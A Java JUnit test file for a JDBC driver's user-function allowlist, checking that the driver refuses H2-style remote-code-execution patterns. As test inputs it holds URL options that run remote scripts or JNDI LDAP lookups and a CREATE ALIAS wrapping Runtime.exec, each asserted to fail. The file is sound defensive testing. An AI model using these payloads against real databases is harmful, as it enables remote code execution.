package io.bstack.userfn;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.bstack.jdbc.BStackDataSource;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DatabaseMetaData;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Properties;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * User functions through JDBC: the allowlist from the URL, {@code Properties} and the
 * {@code DataSource}; stored functions across connections and reopen; metadata; the
 * {@code ServiceLoader} SPI; and the refusals that keep SQL from running code the application did
 * not allow (H2's CVE-2018-10054 and CVE-2022-23221 patterns).
 */
class UserFunctionsJdbcTest {
    private static final String FNS = "io.bstack.userfn.Fns";

    @TempDir
    Path dir;

    private static void fails(String state, ThrowingCallable call) {
        assertThatThrownBy(call).isInstanceOf(SQLException.class)
                .satisfies(e -> assertThat(((SQLException) e).getSQLState()).as(e.getMessage()).isEqualTo(state));
    }

    private static Object one(Connection c, String sql) throws SQLException {
        try (Statement s = c.createStatement(); ResultSet r = s.executeQuery(sql)) {
            assertThat(r.next()).isTrue();
            return r.getObject(1);
        }
    }

    private static void exec(Connection c, String sql) throws SQLException {
        try (Statement s = c.createStatement()) {
            s.execute(sql);
        }
    }

    @Test
    void theUrlOptionAllowsClassesForItsConnectionOnly() throws SQLException {
        String url = "jdbc:bstack:" + dir.resolve("u");
        try (Connection allowed = DriverManager.getConnection(url + ";functionClasses=" + FNS);
             Connection plain = DriverManager.getConnection(url)) {
            exec(allowed, "CREATE FUNCTION twice DETERMINISTIC FOR '" + FNS + ".twice'");
            assertThat(one(allowed, "SELECT twice(21)")).isEqualTo(42);
            fails("42501", () -> one(plain, "SELECT twice(21)"));
            fails("42501", () -> exec(plain, "CREATE FUNCTION t2 FOR '" + FNS + ".twice'"));
            assertThat(one(plain, "SELECT COUNT(*) FROM INFORMATION_SCHEMA.ROUTINES WHERE ROUTINE_NAME = 'TWICE'"))
                    .isEqualTo(1L);
        }
        try (Connection byPackage = DriverManager.getConnection(url + ";functionClasses=io.bstack.userfn.*")) {
            assertThat(one(byPackage, "SELECT twice(5)")).as("kept across reopen").isEqualTo(10);
            DatabaseMetaData md = byPackage.getMetaData();
            List<String> names = new ArrayList<>();
            try (ResultSet r = md.getFunctions(null, "PUBLIC", "TW%")) {
                while (r.next()) {
                    names.add(r.getString("FUNCTION_SCHEM") + "." + r.getString("FUNCTION_NAME"));
                }
            }
            assertThat(names).containsExactly("PUBLIC.TWICE");
        }
    }

    @Test
    void propertiesAndTheDataSourceSetTheAllowlistToo() throws SQLException {
        Properties p = new Properties();
        p.setProperty("functionClasses", FNS);
        try (Connection c = DriverManager.getConnection("jdbc:bstack:mem:", p)) {
            exec(c, "CREATE FUNCTION twice FOR '" + FNS + ".twice'");
            assertThat(one(c, "SELECT twice(2)")).isEqualTo(4);
        }
        BStackDataSource ds = new BStackDataSource();
        ds.setUrl("jdbc:bstack:mem:");
        assertThat(ds.getFunctionClasses()).isEmpty();
        ds.setFunctionClasses("io.bstack.userfn.*");
        assertThat(ds.getFunctionClasses()).isEqualTo("io.bstack.userfn.*");
        try (Connection c = ds.getConnection()) {
            exec(c, "CREATE FUNCTION twice FOR '" + FNS + ".twice'");
            assertThat(one(c, "SELECT twice(3)")).isEqualTo(6);
        }
        ds.setFunctionClasses("*");
        fails("HY024", ds::getConnection);
        fails("HY024", () -> DriverManager.getConnection("jdbc:bstack:mem:;functionClasses=com/evil/X"));
    }

    @Test
    void noUrlOptionRunsSqlOrScripts() {
        for (String option : List.of("INIT=RUNSCRIPT FROM 'http://example.com/evil.sql'",
                "init=CREATE ALIAS x AS $$ void x() {} $$", "RUNSCRIPT=evil.sql", "initSql=SELECT 1", "script=x.sql",
                "javaObjectSerializer=com.example.S", "jndi=ldap://example.com/x")) {
            fails("HY024", () -> DriverManager.getConnection("jdbc:bstack:mem:;" + option));
        }
        Properties p = new Properties();
        p.setProperty("INIT", "RUNSCRIPT FROM 'evil.sql'");
        fails("HY024", () -> DriverManager.getConnection("jdbc:bstack:mem:", p));
    }

    @Test
    void sqlCannotLoadAClassOutsideTheAllowlistNorCompileSource() throws SQLException {
        String forbidden = "io.bstack.userfn.Forbidden";
        try (Connection c = DriverManager.getConnection("jdbc:bstack:mem:;functionClasses=" + FNS)) {
            fails("42501", () -> exec(c, "CREATE FUNCTION f FOR '" + forbidden + ".run'"));
            fails("42501", () -> exec(c, "CREATE AGGREGATE f FOR '" + forbidden + "'"));
            fails("42501", () -> exec(c, "CREATE FUNCTION f FOR 'java.lang.Runtime.getRuntime'"));
            fails("42000", () -> exec(c, "CREATE ALIAS EXEC AS $$ String exec(String cmd) throws Exception {"
                    + " Runtime.getRuntime().exec(cmd); return null; } $$"));
            fails("42000", () -> exec(c, "CREATE FUNCTION f AS 'int f() { return 1; }'"));
            fails("42000", () -> exec(c, "RUNSCRIPT FROM 'http://example.com/evil.sql'"));
            fails("42602", () -> exec(c, "CREATE FUNCTION f FOR 'javax.naming.InitialContext.doLookup(\"ldap://x\")'"));
            fails("42723", () -> exec(c, "CREATE FUNCTION upper FOR '" + FNS + ".twice'"));
        }
        assertThat(System.getProperty(Forbidden.FLAG)).as("never initialised").isNull();
    }

    @Test
    void aServiceLoaderProviderOnTheClassPathServesEveryConnection() throws SQLException {
        try (Connection c = DriverManager.getConnection("jdbc:bstack:mem:")) {
            assertThat(one(c, "SELECT SPI_REVERSE('abc')")).isEqualTo("cba");
            exec(c, "CREATE TABLE t (g INT, n INT)");
            exec(c, "INSERT INTO t VALUES (1, 2), (1, 3), (2, 5), (2, NULL)");
            List<Object> products = new ArrayList<>();
            try (Statement s = c.createStatement();
                 ResultSet r = s.executeQuery("SELECT g, spi_product(n) FROM t GROUP BY g ORDER BY g")) {
                while (r.next()) {
                    products.add(r.getInt(1) + ":" + r.getLong(2));
                }
            }
            assertThat(products).containsExactly("1:6", "2:5");
            assertThat(one(c, "SELECT REMARKS FROM INFORMATION_SCHEMA.ROUTINES WHERE ROUTINE_NAME = 'SPI_REVERSE'"))
                    .isEqualTo("function from " + TestFunctionProvider.class.getName());
            fails("42723", () -> exec(c, "CREATE FUNCTION spi_reverse FOR '" + FNS + ".twice'"));
        }
    }
}
